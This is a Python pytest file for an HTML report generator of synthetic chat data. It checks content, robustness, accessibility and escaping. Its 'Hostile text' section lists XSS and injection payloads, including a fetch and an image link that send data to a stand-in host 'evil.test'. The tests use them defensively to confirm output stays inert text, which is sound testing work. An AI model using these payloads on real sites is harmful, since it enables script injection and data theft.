"""The report page: what it says, what it escapes, and that no artifact however odd breaks it."""

from __future__ import annotations

import ast
import base64
import hashlib
import json
import math
import random
import re
import tracemalloc
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import ojak.report
from ojak.artifact import Artifact, publish
from ojak.errors import InputRefused, ResourceExhausted, TargetExists, UsageError
from ojak.records import Conversation, Document, Rejected
from ojak.report import charts, render, text, write_report
from ojak.report.measures import measure

Make = Callable[..., Artifact]
FOLDER = Path(ojak.report.__file__).parent
TAGS = set(
    re.findall(
        r"\w+",
        "html head meta title link style body header main footer section div p span strong h1 h2 h3 figure figcaption "
        "svg path rect line text desc ul ol li dl dt dd table caption thead tbody tr th td details summary code pre "
        "blockquote br",
    )
)


class Reader(HTMLParser):
    """Collects the tags, the attributes and the text of a page, as a browser would tell them apart."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.parts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.parts).split()).replace("\u00a0", " ")


def pair(row: int, question: str, answer: str = "An answer.", **meta: Any) -> Conversation:
    turns: Any = [{"role": "user", "content": question}, {"role": "assistant", "content": answer}]
    return Conversation(f"r{row}", turns, "magpie", {"method": "magpie", "row": row, **meta})


def lost(row: int, reason: str, content: str = "and then", **meta: Any) -> Rejected:
    return Rejected(f"r{row}", reason, "instruction", content, [], "magpie", {"row": row, **meta})


def point(temperature: float, top_p: float) -> dict[str, Any]:
    return {"instruction": {"temperature": temperature, "top_p": top_p}}


# What the page says


def test_page_tells_the_story_of_the_run(run_folder: Path, tmp_path: Path) -> None:
    page = write_report(run_folder, tmp_path / "report")
    read = Reader(page.read_text(encoding="utf-8"))
    magpie = Artifact.open(run_folder / "magpie")
    counts = magpie.counts
    assert page == tmp_path / "report" / "index.html"
    title = f"smollm2-135m-instruct asked itself 324 questions. {counts['accepted']} pairs came through."
    assert title in read.text
    for fact in (
        "Apache-2.0",
        "from 4-bit weights (Q4_1)",
        magpie.manifest_sha256,
        "bfloat16 on cpu",
        "2.13.0",
    ):
        assert fact in read.text
    for reason, rows in counts["rejected"].items():
        short = text.humanize(re.sub("^(instruction|response)_", "", reason))
        assert re.search(rf"{short[:1].upper()}{short[1:]}.{{0,120}}\u2212{rows} ", read.text), reason
    splits = Artifact.open(run_folder / "split").splits
    assert f"{splits['train']} train, {splits['test']} test" in read.text
    assert read.tags["details"] - 5 == 30  # two histograms and three lists of files have one each
    assert "drawn evenly from all accepted rows with seed 7" in read.text


def test_what_curation_dropped_stands_below_what_was_accepted(tmp_path: Path) -> None:
    rows = [pair(n, f"What is {n}?") for n in range(10)]
    made = publish(tmp_path / "magpie", kind="magpie", records=rows, config={})
    funnel = [
        {"rule": "no_refusal", "in": 10, "rejected": 0},
        {"rule": "max_repetition", "in": 10, "rejected": 3},
        {"rule": "<b>own</b>", "in": 7, "rejected": 1},
    ]
    curated = publish(
        tmp_path / "curate",
        kind="curate",
        records=rows[:6],
        rejected=[lost(n, "max_repetition") for n in range(6, 10)],
        config={},
        stats={"funnel": funnel},
    )
    shown = Reader(render([made, curated])).text
    assert "What was curated" in shown
    after = shown.partition("What was curated")[2]
    assert "Max repetition −3 30 %" in after and "<b>own</b> −1 10 %" in after and "Kept 6 60 %" in after
    assert "No refusal" not in after
    assert "What was curated" not in Reader(render([made])).text


def test_page_of_one_artifact_and_the_same_page_twice(run_folder: Path) -> None:
    artifact = Artifact.open(run_folder / "magpie")
    assert render([artifact]) == render([Artifact.open(run_folder / "magpie")])


def test_speed_is_compared_with_a_measurement_where_there_is_one(make_artifact: Make) -> None:
    stats = {"completion_tokens": 1000, "seconds": 2.0, "tokens_per_s": 500.0}
    rows = [pair(i, "Write a poem.") for i in range(10)]
    measured = Reader(render([make_artifact(rows, stats=stats | {"one_by_one_tokens_per_s": 50.0})])).text
    assert "10\u00d7 faster than the same model on the same machine" in measured
    assert "20 s" in measured and "Raschka" not in measured
    published = Reader(render([make_artifact(rows, name="other", stats=stats)])).text
    assert "Raschka" in published and "no benchmark" in published and "\u00d7" not in published
    assert "5 min 14 s" in published  # 10 pairs at 157 / 5 seconds each


def test_files_are_believed_over_the_manifest(make_artifact: Make) -> None:
    artifact = make_artifact([pair(0, "Write a poem.")], [lost(1, "instruction_fragment")])
    manifest = artifact.manifest | {"counts": artifact.counts | {"accepted": 7}}
    read = Reader(render([Artifact(artifact.path, manifest, "0" * 64)]))
    assert "The manifest speaks of 7 accepted rows, but the files hold 1." in read.text


def test_response_rejections_come_after_the_answers(make_artifact: Make) -> None:
    rejected = [
        lost(0, "instruction_fragment"),
        Rejected(
            "r1", "response_echo", "response", "A poem.", [{"role": "user", "content": "Write it."}], "", {}
        ),
    ]
    html = render([make_artifact([pair(2, "Write a poem.")], rejected)])
    assert html.index("Instructions sampled") < html.index("Fragment") < html.index("Answered by the model")
    assert html.index("Answered by the model") < html.index("Echo") < html.index("Pairs accepted")
    assert "asked: Write it." in Reader(html).text


# Odd artifacts


def test_nothing_sampled(make_artifact: Make) -> None:
    read = Reader(render([make_artifact(config={}, stats={})]))
    assert "Nothing has been sampled" in read.text and "No time was recorded" in read.text
    assert "There is no accepted pair to show." in read.text


def test_nothing_accepted(make_artifact: Make) -> None:
    read = Reader(render([make_artifact([], [lost(i, "instruction_fragment") for i in range(3)])]))
    assert "asked itself 3 questions. No pair came through." in read.text and "0 %" in read.text


def test_single_grid_cell_is_a_sentence(make_artifact: Make) -> None:
    rows = [pair(i, "Write a poem.", sampling=point(1.0, 0.9)) for i in range(3)]
    html = render([make_artifact(rows, [lost(3, "duplicate_near", sampling=point(1.0, 0.9))])])
    assert 'class="heat' not in html
    expected = "All 4 instructions were sampled at temperature 1.0 and top-p 0.9: 25 % were duplicates"
    assert expected in Reader(html).text


def test_grid_counts_duplicates_and_rejections(make_artifact: Make) -> None:
    rows = [pair(i, "Write a poem.", sampling=point(1.0 + i % 2 / 10, 1.0)) for i in range(6)]
    gone = [lost(10 + i, "duplicate_near", sampling=point(1.0, 1.0)) for i in range(3)]
    gone += [lost(20, "instruction_fragment", sampling=point(1.1, 1.0))]
    read = Reader(render([make_artifact(rows, gone)]))
    assert "1.0 50 % of 6 1.1 0 % of 4" in read.text  # duplicates
    assert "1.0 50 % of 6 1.1 25 % of 4" in read.text  # any reason


def test_rows_of_other_programs(make_artifact: Make) -> None:
    odd: list[dict[str, Any]] = [
        {"row": "x", "tokens": [1], "sampling": "hot", "finish_reason": 3, "edits": "all", "model": 5},
        {
            "row": -4,
            "tokens": {"instruction": True, "response": "9"},
            "sampling": {"instruction": {"top_p": None}},
        },
        {"row": 10**30, "tokens": {"instruction": 10**30, "response": -1}, "edits": [None, {"a": 1}]},
    ]
    rows = [Conversation(f"r{i}", [], "", meta) for i, meta in enumerate(odd)]
    read = Reader(
        render([make_artifact(rows, [Rejected("q", "", "", "", [], "", odd[0])], config={"seed": "s"})])
    )
    assert "3 pairs came through" in read.text and "(empty)" in read.text and "No reason given" in read.text


def test_an_artifact_of_another_kind(make_artifact: Make) -> None:
    read = Reader(
        render([make_artifact([Document("d", "text")], kind="corpus", config={"name": "notes"}, stats={})])
    )  # pyright: ignore[reportArgumentType]
    assert "1 row of notes" in read.text and "asked itself" not in read.text


def test_hundreds_of_reasons_and_grid_points_stay_readable(make_artifact: Make) -> None:
    gone = [lost(i, f"reason_{i}" * 30, sampling=point(1 + i / 1000, 0.5)) for i in range(900)]
    html = render([make_artifact([], gone)])
    assert html.count('<li class="rejected">') == charts.MAX_STEPS + 1 and "further reasons" in html
    assert len(re.findall(r'<td class="h\d"', html)) == 2 * charts.MAX_GRID_SIDE and len(html) < 300_000


def test_huge_texts_keep_the_page_small(make_artifact: Make) -> None:
    rows = [pair(i, "<&>'" * 500, "\u202e" * 70_000) for i in range(40)]
    html = render([make_artifact(rows, [lost(99, "instruction_too_long", "<" * 200_000)])])
    assert len(html.encode()) < 5_000_000 and "more characters" in html


def test_rows_are_streamed() -> None:
    def rows() -> Iterator[Conversation]:
        for i in range(8_000):
            tokens = {"instruction": i % 40, "response": i % 400}
            yield pair(i, f"Write a story about {i}.", "x" * 500, tokens=tokens, sampling=point(1.0, 1.0))

    tracemalloc.start()
    found = measure(rows(), iter(()))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 2.5e6  # the rows themselves would take more than 10 MB
    assert found.accepted == found.instruction.rows == 8_000 and len(found.pairs) == 30
    drawn = charts.tiles(found.outcomes)
    assert drawn is not None and drawn.rows_per_tile == math.ceil(8_000 / charts.MAX_TILES)


# Hostile text

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>fetch('http://evil.test/')</script>",
    "<svg onload=alert(1)><image href=http://evil.test/a.png></svg>",
    "<img src=x onerror=alert(1)>",
    "</div></details></main><iframe src=javascript:alert(1)></iframe>",
    "[link](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    "![exfiltrate](http://evil.test/?q=secret)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</title><style>*{display:none}</style><base href=http://evil.test/>",
    "{{ 7 * 7 }} {% for x in range(9) %}{% endfor %} ${7*7}",
    "<!-- --><![CDATA[ ]]> <meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "```html\n<script>alert(2)</script>\n```",
    "\u202ereversed\u202c \u2066isolated\u2069 zero\u200bwidth\ufeff",
    "\x1b[2J\x1b]0;title\x07 red \x9b31m",
    "NUL \x00 BEL \x07 DEL \x7f",
    "tag \U000e0041 line\u2028separator soft\u00adhyphen",
]


@pytest.fixture
def hostile(make_artifact: Make) -> Artifact:
    """Each payload in every place that a row or a manifest can put text."""
    rows, gone = [], []
    for i, load in enumerate(PAYLOADS):
        name = load if i else "".join(PAYLOADS)  # the first row names the model
        rows.append(pair(i, load, load, model=name, model_sha256=load, dtype=load, edits=[load]))
        gone.append(Rejected(f"x{i}{load[:9]}", load, load, load, [], load, {"row": 50 + i}))
    load = "".join(PAYLOADS)
    stats = {"quantization": load, "license": load, "hardware": {load: load}, "engine": {"device": load}}
    return make_artifact(rows, gone, config={"system": load, "language": load, load: [load]}, stats=stats)


def test_hostile_text_is_only_text(hostile: Artifact) -> None:
    html = render([hostile])
    read = Reader(html)
    assert set(read.tags) <= TAGS
    assert not [name for _, name, _ in read.attributes if name.startswith("on") or name in ("style", "src")]
    assert [(tag, value) for tag, name, value in read.attributes if name == "href"] == [("link", "data:,")]
    assert read.tags["style"] == read.tags["title"] - html.count("<title id") - html.count("<svg role") == 1
    for load in PAYLOADS:
        if "```" not in load:
            assert " ".join(text.plain(load).split()) in read.text.replace("\u00a0", " ")


def test_no_hidden_character_reaches_the_page(hostile: Artifact) -> None:
    html = render([hostile])
    assert text.plain(html) == html
    assert (
        'title="U+202E RIGHT-TO-LEFT OVERRIDE">U+202E</span>' in html
        and "\u241b" in html
        and "\u2400" in html
    )


def test_visible_leaves_honest_text_alone() -> None:
    honest = "na\u00efve \ud55c\uad6d\uc5b4 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \U0001f469\u200d\U0001f680\ttab\nline"
    assert str(text.visible(honest)) == honest == text.plain(honest)
    assert str(text.visible("a<b>&\"'")) == "a&lt;b&gt;&amp;&#34;&#39;"


@given(st.text())
def test_visible_escapes_everything(content: str) -> None:
    read = Reader(f"<i>{text.visible(content)}</i>")
    assert set(read.tags) <= {"i", "span"} and "".join(read.parts) == text.plain(content)


def test_lone_surrogates_in_a_manifest_do_not_break_the_page(make_artifact: Make) -> None:
    artifact = make_artifact([pair(0, "Write.")])
    manifest = artifact.manifest | {"config": {"name": "\ud800", "system": "\ud800 half", "\udfff": "\udc00"}}
    render([Artifact(artifact.path, manifest, "")]).encode()


def test_policy_forbids_all_but_the_page_s_own_style(run_folder: Path) -> None:
    html = render([Artifact.open(run_folder / "magpie")])
    style = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style[0].encode()).digest()).decode()
    assert len(style) == 1 and "url(" not in style[0] and "@import" not in style[0]
    assert f"default-src 'none'; style-src 'sha256-{digest}'" in html
    assert not re.search(r"(?:https?:)?//\w", html.replace("://evil", ""))


def test_templates_load_in_one_function_with_escaping() -> None:
    users = [path.name for path in FOLDER.glob("*.py") if "import jinja2" in path.read_text(encoding="utf-8")]
    assert users == ["html.py"]
    tree = ast.parse((FOLDER / "html.py").read_text(encoding="utf-8"))
    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
    made = [
        call for call in calls if isinstance(call.func, ast.Attribute) and call.func.attr == "Environment"
    ]
    assert len(made) == 1
    escaping = [word.value for word in made[0].keywords if word.arg == "autoescape"]
    assert [ast.unparse(value) for value in escaping] == ["True"]
    templates = "".join(path.read_text(encoding="utf-8") for path in FOLDER.glob("*.jinja"))
    assert "safe" not in re.findall(r"\|\s*(\w+)", templates) and "autoescape" not in templates


# Writing


def test_an_existing_page_is_kept_unless_replaced(run_folder: Path, tmp_path: Path) -> None:
    page = write_report(run_folder, tmp_path / "report")
    page.write_text("mine")
    with pytest.raises(TargetExists):
        write_report(run_folder, tmp_path / "report")
    assert page.read_text() == "mine"
    assert (
        write_report(run_folder, tmp_path / "report", replace=True).read_text().startswith("<!doctype html>")
    )
    assert [item.name for item in page.parent.iterdir()] == ["index.html"]


def test_a_full_disk_leaves_the_earlier_page(
    run_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = write_report(run_folder, tmp_path / "report")
    before = page.read_bytes()

    def full(*_: object) -> None:
        raise ResourceExhausted("the disk is full")

    monkeypatch.setattr("ojak.report.page.write_atomic", full)
    with pytest.raises(ResourceExhausted):
        write_report(run_folder, tmp_path / "report", replace=True)
    assert page.read_bytes() == before


def test_paths_may_be_stages_or_their_run(run_folder: Path, tmp_path: Path) -> None:
    (run_folder / "split").rename(run_folder / "a_split")  # the order is that of making, not of names
    stages = [run_folder / name for name in ("a_split", "magpie", "pull")]
    one = write_report(stages, tmp_path / "a").read_text()
    assert one == write_report(run_folder, tmp_path / "b").read_text()
    order = re.findall(r'<tr><th scope="row">(pull|magpie|split)</th>', one)
    assert sorted(order) == ["magpie", "pull", "split"] and order.index("magpie") < order.index("split")


def test_paths_without_one_run_are_refused(run_folder: Path, tmp_path: Path, make_artifact: Make) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(InputRefused, match="nothing to report on"):
        write_report(tmp_path / "empty", tmp_path / "out")
    with pytest.raises(InputRefused):
        write_report([], tmp_path / "out")
    make_artifact([pair(0, "Write.")], name="second")
    with pytest.raises(UsageError, match="2 Magpie runs"):
        write_report(run_folder, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# Looks


def _luminance(color: str) -> float:
    parts = [int(color[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    """The contrast ratio of WCAG 2.2, 1 to 21."""
    high, low = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("scheme", [0, 1, 2], ids=["light", "dark", "print"])
def test_colours_meet_wcag_aa(scheme: int) -> None:
    style = (FOLDER / "style.css").read_text(encoding="utf-8")
    block = re.findall(r":root \{(.*?)\}", style, re.DOTALL)[scheme]
    color = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", block))
    pairs = [(ink, ground) for ink in ("ink", "soft", "accent", "rust") for ground in ("paper", "code")]
    pairs += [
        ("ink", "note"),
        *(("heat-ink", f"h{i}") for i in range(4)),
        *(("heat-ink-deep", f"h{i}") for i in (4, 5)),
    ]
    assert {
        pair: contrast(color[pair[0]], color[pair[1]])
        for pair in pairs
        if contrast(color[pair[0]], color[pair[1]]) < 4.5
    } == {}
    for shape in ("accent", "rust", "v0", "v1", "ink"):  # 1.4.11: graphics need 3 to 1
        assert contrast(color[shape], color["paper"]) >= 3, shape


def test_page_is_structured_for_every_reader(run_folder: Path) -> None:
    html = render([Artifact.open(run_folder / "magpie")])
    read = Reader(html)
    assert read.tags["h1"] == 1 and '<html lang="en">' in html
    assert read.tags["table"] == read.tags["caption"]
    drawn = re.findall(r"<svg\b[^>]*>(?:(?!</svg>).)*", html, re.DOTALL)
    assert drawn and all('aria-hidden="true"' in svg or "<title" in svg for svg in drawn)
    ids = [value for _, name, value in read.attributes if name == "id"]
    assert len(ids) == len(set(ids))
    named = [
        part for _, name, value in read.attributes if name == "aria-labelledby" for part in value.split()
    ]
    assert set(named) <= set(ids)
    assert "@media print" in html and "prefers-color-scheme: dark" in html


def test_random_manifests_never_break_the_page(make_artifact: Make) -> None:
    artifact = make_artifact([pair(0, "Write a poem.")], [lost(1, "instruction_fragment")])
    rng = random.Random(5)
    junk: list[Any] = [None, True, -1, 1e308, "x", [], [None], {}, {"a": [{}]}, {"path": 3, "bytes": "b"}]
    for _ in range(60):
        manifest = dict(artifact.manifest)
        for name in rng.sample(["config", "stats", "created", "ojak_version", "inputs"], 3):
            manifest[name] = rng.choice(junk)
        manifest["stats"] = {
            name: rng.choice(junk) for name in ("seconds", "completion_tokens", "model", "engine", "license")
        }
        assert "came through" in render([Artifact(artifact.path, json.loads(json.dumps(manifest)), "")])
